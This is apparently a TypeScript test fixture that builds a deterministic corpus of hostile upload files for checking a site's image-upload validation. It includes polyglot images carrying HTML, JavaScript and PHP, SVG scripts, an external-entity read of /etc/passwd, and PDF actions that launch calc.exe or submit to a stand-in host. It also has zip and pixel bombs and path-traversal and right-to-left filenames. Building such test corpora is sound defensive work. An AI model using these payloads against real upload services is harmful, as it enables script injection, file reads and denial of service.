import { deflateRawSync, deflateSync, gzipSync, crc32 as sumOf } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import type { TestFile } from '#tests/app.ts';
import { seededRandom } from '../../scripts/sample/random.ts';

/** A file that is meant to do harm, or that reveals more than its sender knows. */
export interface HostileFile extends TestFile {
  /** A description for the test's output. */
  title: string;
  /** The expected result where a picture is required. */
  asPicture: 'taken' | 'refused' | 'either';
  /** It is empty, so it is refused as a scanned ID too. */
  empty?: boolean;
}

/** Marks data that the site must not serve again: scripts after a picture, comments, names, places. */
export const canary = 'xX-CANARY-Xx';
/** Every script of the corpus leaves this trace when it runs. */
const script = `window.hacked='${canary}';document.title='${canary}';top.postMessage('${canary}','*')`;

const random = seededRandom(13);
const text = (content: string) => Buffer.from(content, 'utf8');
const html = text(`<!doctype html><html><body><h1>${canary}</h1><script>${script}</script></body></html>`);
const svg = text(
  `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="${script}"><script>${script}</script></svg>`,
);
const join = (...parts: Uint8Array[]) => Buffer.concat(parts);

/** A picture of coloured noise, the same each time. */
function noise(width: number, height: number) {
  const pixels = Buffer.alloc(width * height * 3);
  for (let at = 0; at < pixels.length; at++) pixels[at] = random.int(0, 255);
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}
const flat = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#7a5230' }, limitInputPixels: false });

function chunk(type: string, data: Uint8Array): Buffer {
  const body = join(text(type), data);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(sumOf(body));
  return join(length, body, sum);
}
const pngHead = Buffer.from('89504e470d0a1a0a', 'hex');

/** A hand-made PNG, whose header may be wrong. */
function png(width: number, height: number, pixels: Uint8Array, between: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return join(pngHead, chunk('IHDR', head), between, chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0)));
}

/** Inserts a chunk after the header of a PNG. */
const intoPng = (file: Buffer, between: Uint8Array) => join(file.subarray(0, 33), between, file.subarray(33));
/** Inserts a segment after the first marker of a JPEG. */
function intoJpeg(file: Buffer, marker: number, data: Uint8Array): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return join(file.subarray(0, 2), head, data, file.subarray(2));
}

/** An archive with one entry that declares its size and unpacks to zeros. */
function zipBomb(megabytes: number): Buffer {
  const zeros = Buffer.alloc(megabytes * 1024 * 1024);
  const packed = deflateRawSync(zeros, { level: 9 });
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(sumOf(zeros), 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(zeros.length, 22);
  local.writeUInt16LE(8, 26);
  return join(local, text('xl.sheet'), packed);
}

/** A PDF that runs a script when opened, starts a program, and makes a request. */
function pdf(action: string): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    action,
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of places) file += `${String(at).padStart(10, '0')} 00000 n \n`;
  return text(
    `${file}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n%${canary}\n`,
  );
}

const heic = (brand: string) =>
  join(Buffer.from([0, 0, 0, 24]), text(`ftyp${brand}`), Buffer.alloc(4), text('mif1heic'), Buffer.alloc(400));

const gps = {
  IFD0: { Artist: canary, Model: canary, ImageDescription: canary, Copyright: canary },
  IFD2: { UserComment: canary },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '18/1 31/1 12/1', GPSLongitudeRef: 'E', GPSLongitude: '73/1 51/1 24/1' },
};
const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${canary}"/></rdf:RDF></x:xmpmeta>`;

/** Three frames in one file. */
async function animated() {
  const frames = ['#f00', '#0f0', '#00f'].map((background) =>
    sharp({ create: { width: 120, height: 90, channels: 3, background } })
      .png()
      .toBuffer(),
  );
  return sharp(await Promise.all(frames), { join: { animated: true } });
}

/** A PNG with animation chunks; decoders without APNG show its first picture. */
function animatedPng(still: Buffer): Buffer {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(1_000_000, 0);
  const frame = Buffer.alloc(26);
  frame.writeUInt32BE(160, 4);
  frame.writeUInt32BE(120, 8);
  return intoPng(still, join(chunk('acTL', control), chunk('fcTL', frame)));
}

/** Sixty files, the same in every run. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpegFile, pngFile, webpFile, gifFile, avifFile] = await Promise.all(
    (['jpeg', 'png', 'webp', 'gif', 'avif'] as const).map((kind) => noise(160, 120).toFormat(kind).toBuffer()),
  );
  const jpeg = jpegFile!;
  const plain = { jpeg, png: pngFile!, webp: webpFile!, gif: gifFile!, avif: avifFile! };
  const zip = Buffer.from(zipSync({ 'index.html': html, '../../../etc/cron.d/job': strToU8(canary) }));
  const moved = async () => (await animated()).gif().toBuffer();
  const largeHead = (at: number, file: Buffer) => {
    const grown = Buffer.from(file);
    grown.writeUInt16BE(60_000, at);
    grown.writeUInt16BE(60_000, at + 2);
    return grown;
  };
  const hostileFiles: HostileFile[] = [];
  const add = (
    title: string,
    bytes: Uint8Array,
    asPicture: HostileFile['asPicture'],
    { name = 'photo.jpg', type = 'image/jpeg', empty = false } = {},
  ) => hostileFiles.push({ title, bytes, asPicture, name, type, ...(empty ? { empty } : {}) });

  // Two formats in one file.
  add('JPEG and HTML behind it', join(jpeg, html), 'taken');
  add('JPEG with HTML in a comment', intoJpeg(jpeg, 0xfe, html), 'taken');
  add('JPEG and ZIP behind it', join(jpeg, zip), 'taken');
  add('JPEG that is a script, too', intoJpeg(jpeg, 0xfe, text(`*/=1;${script};/*`)), 'taken', { name: 'photo.js' });
  add('JPEG with PHP in a comment', intoJpeg(jpeg, 0xfe, text(`<?php echo '${canary}'; ?>`)), 'taken', {
    name: 'photo.php.jpg',
  });
  add('PNG and HTML behind it', join(plain.png, html), 'taken', { name: 'photo.html', type: 'text/html' });
  add('PNG with a script in a text chunk', intoPng(plain.png, chunk('tEXt', join(text('Comment\0'), html))), 'taken');
  add(
    'PNG with a packed text that unpacks to 40 MB',
    intoPng(plain.png, chunk('zTXt', join(text('Comment\0\0'), deflateSync(Buffer.alloc(40_000_000))))),
    'either',
  );
  add('GIF and JavaScript', join(plain.gif, text(`/*${canary}*/=1;${script}`)), 'taken', { name: 'photo.js' });
  add('WebP and HTML behind it', join(plain.webp, html), 'taken');
  add('PDF and HTML', join(pdf('<< /S /URI /URI (https://evil.test) >>'), html), 'refused', { name: 'id.html' });
  add('ZIP and HTML', join(zip, html), 'refused', { name: 'id.html', type: 'text/html' });

  // Pages and programs.
  add('SVG with a script', svg, 'refused', { name: 'id.svg', type: 'image/svg+xml' });
  add('SVG that is called a JPEG', svg, 'refused');
  add('SVG behind a byte order mark', join(text('\ufeff<?xml version="1.0"?>'), svg), 'refused', { name: 'id.svg' });
  add('SVG, packed', gzipSync(svg), 'refused', { name: 'id.svgz', type: 'image/svg+xml' });
  add(
    'SVG with an external entity',
    text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`),
    'refused',
  );
  add('HTML', html, 'refused', { name: 'id.html', type: 'text/html' });
  add('HTML that is called a JPEG', html, 'refused');
  add('HTML with a blank line before it', join(text('\r\n\t  '), html), 'refused', { name: 'id.htm' });
  add('XHTML', text(`<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`), 'refused', {
    name: 'id.xhtml',
    type: 'application/xhtml+xml',
  });
  add('JavaScript', text(script), 'refused', { name: 'id.js', type: 'text/javascript' });
  add('MHTML', text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${html}`), 'refused', { name: 'id.mhtml' });
  add('Windows program', join(text('MZ'), Buffer.alloc(2_000, 7)), 'refused', {
    name: 'id.pdf.exe',
    type: 'application/pdf',
  });
  add('shell script', text(`#!/bin/sh\necho ${canary}\n`), 'refused', { name: 'id.sh', type: 'text/x-shellscript' });
  add('HTML in UTF-7', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), 'refused', { name: 'id.html' });

  // Documents.
  add(
    'PDF that runs a script',
    pdf(`<< /S /JavaScript /JS (app.alert\\('${canary}'\\); this.submitForm\\('https://evil.test/'\\);) >>`),
    'refused',
    { name: 'id.pdf', type: 'application/pdf' },
  );
  add('PDF that starts a program', pdf('<< /S /Launch /F (calc.exe) >>'), 'refused', { name: 'id.pdf' });
  add('PDF that opens a script address', pdf(`<< /S /URI /URI (javascript:${script}) >>`), 'refused', {
    name: 'id.pdf',
  });
  add('PDF that breaks off', pdf('<< >>').subarray(0, 120), 'refused', { name: 'id.pdf' });
  add('ZIP bomb: 200 MB in 200 KB', zipBomb(200), 'refused', { name: 'id.zip', type: 'application/zip' });
  add('ZIP bomb that is called a picture', zipBomb(50), 'refused', { name: 'photo.png', type: 'image/png' });
  add('gzip bomb', gzipSync(Buffer.alloc(100_000_000)), 'refused', { name: 'photo.jpg.gz', type: 'application/gzip' });

  // Decompression bombs.
  add('PNG of 64 megapixels in 60 KB', await flat(8_000, 8_000).png().toBuffer(), 'refused');
  add('PNG that claims 3,600 megapixels', png(60_000, 60_000, deflateSync(Buffer.alloc(1_000))), 'refused');
  add('PNG that claims 2^31 pixels a side', png(0x7fffffff, 0x7fffffff, deflateSync(Buffer.alloc(9))), 'refused');
  add('PNG whose pixels unpack to 100 MB', png(100, 100, deflateSync(Buffer.alloc(100_000_000))), 'either');
  add('PNG without width', png(0, 10, deflateSync(Buffer.alloc(9))), 'refused');
  add('JPEG that claims 3,600 megapixels', largeHead(jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 5, jpeg), 'refused');
  add(
    'GIF that claims 3,600 megapixels',
    join(text('GIF89a'), Buffer.from([0x60, 0xea, 0x60, 0xea, 0, 0, 0])),
    'refused',
  );
  add('AVIF of 25 megapixels', await flat(5_000, 5_000).avif({ effort: 0 }).toBuffer(), 'refused');
  add('line of 20,000 x 2', await flat(20_000, 2).png().toBuffer(), 'refused');
  add('JPEG of 50 megapixels', await flat(10_000, 5_000).jpeg().toBuffer(), 'taken');
  add('GIF of 2,000 frames', await manyFrames(), 'taken', { name: 'photo.gif', type: 'image/gif' });

  // Truncated and empty files.
  for (const kind of ['jpeg', 'png', 'webp', 'gif'] as const) {
    const whole = plain[kind];
    add(`${kind} that breaks off`, whole.subarray(0, Math.floor(whole.length / 2)), 'refused');
  }
  add('AVIF that breaks off', plain.avif.subarray(0, Math.floor(plain.avif.length / 2)), 'refused');
  add('JPEG of its first four bytes', Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'refused');
  add('0 bytes', Buffer.alloc(0), 'refused', { empty: true });

  // Other formats, and camera metadata.
  add('HEIC', heic('heic'), 'refused', { name: 'IMG_0001.HEIC', type: 'image/heic' });
  add('HEIC that is called a JPEG', heic('mif1'), 'refused');
  add('TIFF', await noise(60, 40).tiff().toBuffer(), 'refused', { name: 'scan.tif', type: 'image/tiff' });
  add('JPEG with place and owner', await flat(300, 200).jpeg().withExif(gps).withXmp(xmp).toBuffer(), 'taken');
  add('WebP with place and owner', await flat(300, 200).webp().withExif(gps).withXmp(xmp).toBuffer(), 'taken');
  add('PNG with place and owner', await flat(300, 200).png().withExif(gps).withXmp(xmp).toBuffer(), 'taken');
  add(
    'JPEG with a colour profile that holds a text',
    intoJpeg(
      await flat(300, 200).jpeg().withIccProfile('p3').toBuffer(),
      0xe2,
      join(text('ICC_PROFILE\0'), Buffer.from([1, 1]), text(canary)),
    ),
    'either',
  );
  add('animated GIF', join(await moved(), text(canary)), 'taken', { name: 'photo.gif', type: 'image/gif' });
  add('animated PNG that claims a million frames', animatedPng(plain.png), 'either', { name: 'photo.png' });

  // Names that are paths, break headers, or look different from what they are.
  for (const [title, name] of Object.entries(hostileNames)) add(`a name that is ${title}`, jpeg, 'taken', { name });
  return hostileFiles;
}

async function manyFrames(): Promise<Buffer> {
  const frame = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#123' } })
    .png()
    .toBuffer();
  const other = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#fed' } })
    .png()
    .toBuffer();
  return sharp(
    Array.from({ length: 2_000 }, (_, index) => (index % 2 ? frame : other)),
    { join: { animated: true } },
  )
    .gif()
    .toBuffer();
}

/** Descriptions and names. */
const hostileNames = {
  'a path': '../../../../etc/passwd',
  'a path of Windows': 'C:\\Windows\\System32\\evil.jpg',
  'written from right to left': 'photo\u202egpj.exe',
  'between marks that nobody sees': '\u2066photo\u2069\u200f.jpg',
  'a second name': 'name; filename=x.html',
  'cut within a character': `n${'😀'.repeat(74)}n.jpg`,
  Hindi: 'पहचान\u200dपत्र.jpg',
};
